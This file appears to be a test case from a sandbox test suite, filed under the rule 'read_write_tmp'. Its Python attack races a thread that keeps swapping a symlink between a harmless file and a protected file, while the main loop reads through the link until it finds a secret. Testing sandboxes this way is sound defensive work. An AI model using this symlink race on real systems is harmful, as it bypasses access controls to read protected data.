# class: files
# rule: read_write_tmp
# success: a file in /tmp is read through a link that another thread changes again and again
# proof: read
# timeout: 40
import os
import threading
import time

from attack import FILE, SECRET, attempt


@attempt
def steal():
    with open("harmless", "w") as opened:
        opened.write("nothing")
    os.symlink("harmless", "a")
    os.symlink(FILE, "b")
    end = time.monotonic() + 3
    over = []

    def turn():
        while not over and time.monotonic() < end:
            os.replace("a", "turning") if os.path.lexists("a") else None
            os.symlink("harmless", "a")
            os.replace("b", "turning")
            os.symlink(FILE, "b")

    os.symlink("harmless", "turning")
    thread = threading.Thread(target=turn)
    thread.start()
    found = ""
    while time.monotonic() < end and SECRET not in found:
        try:
            with open("turning") as opened:
                found = opened.read()
        except OSError:
            continue
    over.append(True)
    thread.join()
    return found
